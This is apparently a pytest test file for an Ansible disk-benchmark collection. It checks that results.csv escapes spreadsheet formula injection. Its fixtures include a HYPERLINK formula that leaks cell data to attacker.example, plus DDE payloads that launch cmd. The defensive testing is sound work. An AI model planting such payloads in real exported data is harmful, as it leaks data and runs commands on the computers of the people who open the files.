# -*- coding: utf-8 -*-
# Copyright: diskproof contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
"""results.csv is safe to open in a spreadsheet (OWASP CSV injection guidance): a text field that
begins with = + - @ TAB or CR (or with the ' that marks such a field) is written with a ' in front;
numbers the records carry (figures, seconds, bytes) are written as numbers, negative ones too.

Model, serial and device strings come from the disks themselves, paths and errors from hosts and
tools: any of them can be '=HYPERLINK(...)'. Checked on the pipeline's writer (plugin_utils/_report.py
CsvLines: csv.writer of csv_row), field by field, and end to end through a real ansible-playbook run with
the callback enabled.
"""
from __future__ import annotations

import csv
import io
import sys

import pytest

from ansible_collections.diskproof.fleet.plugins.plugin_utils import _aggregate as aggregate
from ansible_collections.diskproof.fleet.plugins.plugin_utils import _report

GIB = 2 ** 30
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
DEVICE = "-2+3+cmd|' /C calc'!A0"
PATH = "+/srv/d0"
ERROR = "\r=1+1"
QUOTED = "'=already quoted by someone"
TAB_SERIAL = "\t=1+1"


def _record(path, device, serial, model, rate, seconds=12.5, error=None):
    return {
        "schema": 1, "test": "dd_seq_write", "tool": "dd", "seconds": seconds, "bytes": GIB,
        "target": {"path": path, "device": device, "model": model, "firmware": "F1", "size_bytes": 4000787030016,
                   "rotational": False, "transport": "sata", "serial": serial, "wwn": None},
        "metrics": {"read_bytes_per_s": None, "write_bytes_per_s": rate, "read_iops": None, "write_iops": None,
                    "fsyncs_per_s": None, "latency_ns": {"read": None, "write": None, "sync": None}},
        "params": {"block_size": 1048576}, "device_io": None, "error": error,
    }


def _entries():
    records = {
        "h1": [_record(PATH, DEVICE, "S1", FORMULA, 200e6),
               _record("/srv/d1", "sdc", DDE, "M 1", 190e6, seconds=-1.0)],
        "@h2": [_record("/srv/d0", "sdb", TAB_SERIAL, QUOTED, None, error=ERROR),
                _record("/srv/d1", "sdc", "S3", "M 1", "-5")],
        "h4": [_record("/srv/d0", "sdb", "S4", "M 1", 200e6), _record("/srv/d1", "sdc", "S5", "M 1", 210e6)],
    }
    statuses = {host: {"status": "ok", "problems": []} for host in records}
    statuses["=h3"] = {"status": "unreachable",
                       "problems": [{"task": "t", "status": "unreachable", "message": "-refused"}]}
    facts = {host: [(record, aggregate.record_facts(record)) for record in host_records]
             for host, host_records in records.items()}
    _report, entries = aggregate.judge_report(facts, statuses, {}, settings=aggregate.make_settings())
    return entries


def _rows(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def _check_rows(rows):
    """Every text field is safe; the figures are numbers; the neutralised values are the expected ones."""
    for row in rows:
        for field in row:
            assert field[:1] not in ("=", "+", "-", "@", "\t", "\r") or _is_number(field), (field, row)
    by_serial = {row[14]: row for row in rows}
    assert by_serial["S1"][15] == "'" + FORMULA
    assert by_serial["S1"][2] == "'" + DEVICE and by_serial["S1"][1] == "'" + PATH
    assert by_serial["'" + DDE][11] == "-1.0"  # a negative number stays a number
    assert by_serial["'" + TAB_SERIAL][15] == "'" + QUOTED  # the quote itself is escaped: one ' off restores it
    assert by_serial["'" + TAB_SERIAL][13] == "'" + ERROR
    assert by_serial["S3"][8] == "'-5"  # text where a number belongs is text
    host_problem = next(row for row in rows if row[0] == "'=h3")
    assert host_problem[6] == "unreachable: -refused"  # begins with a letter: as it is
    assert {row[0] for row in rows} == {"h1", "'@h2", "'=h3", "h4"}
    # reasons the judge writes start with a signed percentage: text, so quoted as well
    assert any(row[6].startswith("'+") or row[6].startswith("'-") for row in rows)


def _is_number(field):
    try:
        float(field)
    except ValueError:
        return False
    return True


def test_results_csv_lines_neutralise_formula_text():
    lines = _report.CsvLines()
    text = "".join(lines.line(entry) for entry in _entries())
    _check_rows(_rows(text))


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", '"\'\rx"'),
    ("a\r=1+1", '"a\r=1+1"'),
    ("'=x", "''=x"), ("'plain", "''plain"), ("a=b", "a=b"), (" =x", " =x"), ("", ""),
    (-1.5, "-1.5"), (-3, "-3"), (float("-inf"), "-inf"), (None, ""), (True, "True"),
])
def test_csv_field_rule(value, written):
    """The field as results.csv holds it, here in the reason column of a host problem's row."""
    entry = aggregate.Entry("h", None, None, "pass", (("pass", value),), (), None, None, None, None, None, None)
    assert _report.CsvLines().line(entry) == "h,,,,,pass,%s,,,,,,,,,,\n" % written


def test_results_csv_of_a_real_run_is_neutralised(playbook_runner, tmp_path):
    """ansible-playbook, the callback and the test module emit_records: the file the callback writes."""
    records = [_record(PATH, DEVICE, "S1", FORMULA, 200e6),
               _record("/srv/d1", "sdc", DDE, "M 1", 190e6, seconds=-1.0)]
    host = {"ansible_connection": "local", "ansible_python_interpreter": sys.executable}
    inventory = {"all": {"hosts": {"h1": host}}}
    playbook = [{"hosts": "all", "gather_facts": False, "tasks": [
        {"name": "Emit", "ansible.legacy.emit_records": {"records": records}}]}]
    report_dir = tmp_path / "out"
    completed = playbook_runner.run(inventory, playbook, {"DISKPROOF_REPORT_DIR": str(report_dir)})
    assert completed.returncode == 0, completed.stdout + completed.stderr
    with open(report_dir / "results.csv", newline="", encoding="utf-8") as stream:
        rows = list(csv.reader(stream))
    by_serial = {row[14]: row for row in rows[1:]}
    assert by_serial["S1"][15] == "'" + FORMULA
    assert by_serial["S1"][1:3] == ["'" + PATH, "'" + DEVICE]
    assert by_serial["'" + DDE][11] == "-1.0"
